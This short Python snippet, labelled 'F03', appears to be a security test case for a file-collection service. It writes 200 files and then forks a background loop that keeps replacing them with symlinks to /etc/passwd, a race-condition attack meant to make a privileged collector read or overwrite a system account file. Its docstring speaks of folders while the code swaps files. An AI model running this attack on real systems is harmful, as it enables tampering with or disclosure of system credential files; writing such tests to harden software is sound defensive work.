"""F03: swaps folders for links while files are collected."""
os.mkdir("/tmp/real")
for n in range(200):
    with open("/output/file%03d" % n, "w") as file:
        file.write("mine")
if os.fork() == 0:
    os.setsid()
    while True:
        for n in range(200):
            os.symlink("/etc/passwd", "/output/new")
            os.rename("/output/new", "/output/file%03d" % n)
            with open("/output/new", "w") as file:
                file.write("mine")
            os.rename("/output/new", "/output/file%03d" % n)
time.sleep(0.1)
